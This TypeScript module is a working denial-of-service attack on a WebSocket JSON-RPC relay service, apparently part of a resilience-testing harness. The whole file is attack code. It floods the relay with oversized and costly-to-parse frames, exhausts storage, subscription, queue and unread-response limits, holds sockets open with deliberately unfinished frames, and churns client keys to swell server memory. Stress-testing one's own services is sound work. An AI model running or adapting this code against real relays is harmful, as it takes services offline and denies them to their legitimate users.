import { get } from 'node:http'
import { WebSocket } from 'ws'
import {
  drafts,
  flood,
  frameWithBadIds,
  holdSockets,
  kib,
  longInclude,
  nextMessage,
  objectWithNewKeys,
  openAuthorizedSocket,
  openSockets,
  publish,
  publishWide,
  randomTopic,
  rawSocketOf,
  request,
  searchWallets,
  type Target,
  topic,
  waitWhileAttacking,
} from './hostileClient.ts'

/**
 * Uses up all limits at the same time, until the attack is over: stored messages, subscriptions, unread responses, waiting fetches and
 * unfinished frames. In addition, the attack sends the longest frames and searches for wallets.
 *
 * @param fillingKeys - The number of new client keys that store as many very short messages as the limits allow. A relay without a data
 * folder has these messages in memory.
 */
export async function useUpLimits(target: Target, fillingKeys: number): Promise<void> {
  await requestImage(target)
  await Promise.all(Array.from({ length: fillingKeys }, () => fillStorageOnce(target)))
  const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
  const giantFrame = frameWithBadIds(255 * kib)
  const sendGiantFrames = async () => {
    await waitWhileAttacking(target, 8_000)
    await Promise.all([flood(target, () => giantFrame), searchWallets(target, longInclude)])
  }
  await Promise.all([fetchMany(target), leaveUnfinished(target), sendGiantFrames()])
  for (const socket of sockets) socket.terminate()
}

/**
 * Uses up all limits while new client keys connect and disconnect. Eight more keys send the long frames that take the relay the most work
 * to parse.
 */
export async function useUpLimitsWithLongFrames(target: Target, fillingKeys: number): Promise<void> {
  const sendLongFrames = async () => {
    await waitWhileAttacking(target, 14_000)
    if (target.isOver()) return
    const frames = Array.from({ length: 64 }, () => {
      const params = `[${Array.from({ length: 44 }, () => objectWithNewKeys(100))}]`
      return `{"id":1,"jsonrpc":"2.0","method":"x","params":${params}}`.padEnd(250 * kib)
    })
    let sent = 0
    const nextFrame = () => {
      sent += 1
      return frames[sent % frames.length] ?? ''
    }
    await Promise.all(Array.from({ length: 8 }, () => flood(target, nextFrame)))
  }
  await Promise.all([useUpLimits(target, fillingKeys), comeAndGo(target), sendLongFrames()])
}

/**
 * Uses up the limits of subscriptions and unread responses. Then sends frames with thousands of new keys, whose messages wait to be stored.
 */
export async function useUpLimitsWithWideFrames(target: Target): Promise<void> {
  await requestImage(target)
  const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
  const sendWideFrames = async () => {
    // The attack has used up the byte limit of its IP address. The limit refills during this wait.
    await waitWhileAttacking(target, 16_000)
    await publishWide(target)
  }
  await Promise.all([comeAndGo(target), sendWideFrames()])
  for (const socket of sockets) socket.terminate()
}

/** Requests an image, because the server loads the metadata of its images into memory with the first such request. */
function requestImage({ relayUrl, from }: Target): Promise<void> {
  const { hostname: host, port } = new URL(relayUrl)
  const path = '/public/getTokenImage/ETH?projectId=test'
  return new Promise((resolve) => {
    const clientRequest = get({ host, port, path, localAddress: from }, (response) =>
      response.resume().on('close', resolve),
    )
    clientRequest.on('error', () => resolve())
  })
}

/** Repeats a request until it has succeeded `count` times, or until the relay refuses it for another reason than its rate limit. */
async function repeatRequest(
  target: Target,
  socket: WebSocket,
  { count, frame }: { count: number; frame: () => string },
) {
  for (let done = 0; done < count && !target.isOver() && socket.readyState === WebSocket.OPEN; ) {
    socket.send(frame())
    target.seen.sent += 1
    const response = await nextMessage(socket)
    if (response.includes('"result"')) done += 1
    else if (response.includes('slow down')) await waitWhileAttacking(target, 500)
    else return
  }
}

async function fillStorageOnce(target: Target) {
  const socket = await openAuthorizedSocket(target)
  if (!socket) return
  const frame = () => request('irn_batchPublish', { messages: drafts(100, randomTopic, 604_800) })
  await repeatRequest(target, socket, { count: 10, frame })
  socket.terminate()
}

async function subscribeAll(target: Target): Promise<readonly WebSocket[]> {
  const sockets = (await openSockets(target, 4)).slice(0, 4)
  const frame = () => request('irn_batchSubscribe', { topics: Array.from({ length: 500 }, randomTopic) })
  await Promise.all(sockets.map((socket) => repeatRequest(target, socket, { count: 10, frame })))
  return sockets
}

/** Many client keys request long messages and do not read the responses. */
async function leaveUnread(target: Target): Promise<readonly WebSocket[]> {
  const first = await openAuthorizedSocket(target)
  for (let number = 0; number < 30; number += 1) first?.send(publish(`${number} ${'x'.repeat(45_000)}`))
  await waitWhileAttacking(target, 8_000)
  const sockets = await openSockets(target, 160)
  for (const socket of sockets) {
    socket.pause()
    for (let count = 0; count < 2 && socket.readyState === WebSocket.OPEN; count += 1)
      socket.send(request('irn_fetchMessages', { topic }))
  }
  target.seen.sent += 2 * sockets.length
  await waitWhileAttacking(target, 2_000)
  return sockets
}

/** Sends batch fetches with the maximum number of topics. The fetches wait in the relay's queue and take memory. */
async function fetchMany(target: Target) {
  while (!target.isOver()) {
    const sockets = await openSockets(target, 20)
    for (let count = 0; count < 20; count += 1)
      for (const socket of sockets) {
        if (socket.readyState !== WebSocket.OPEN) continue
        socket.send(request('irn_batchFetchMessages', { topics: Array.from({ length: 500 }, randomTopic) }))
        target.seen.sent += 1
      }
    await waitWhileAttacking(target, 5_000)
    for (const socket of sockets) socket.terminate()
  }
}

/** Connects and disconnects with new client keys. The relay stores an account for each key until its next sweep. */
async function comeAndGo(target: Target) {
  while (!target.isOver()) {
    const entered = await Promise.all(Array.from({ length: 6 }, () => openAuthorizedSocket(target)))
    for (const socket of entered) socket?.terminate()
    await waitWhileAttacking(target, 100)
  }
}

function leaveUnfinished(target: Target): Promise<void> {
  const length = 60 * kib
  const head = Buffer.from([0x81, 0xfe, length >> 8, length & 0xff, 0, 0, 0, 0])
  const unfinishedFrame = Buffer.concat([head, Buffer.alloc(length - 1, 'x')])
  return holdSockets(target, 40, async () => {
    const socket = await openAuthorizedSocket(target)
    if (socket) rawSocketOf(socket).write(unfinishedFrame)
    return socket
  })
}
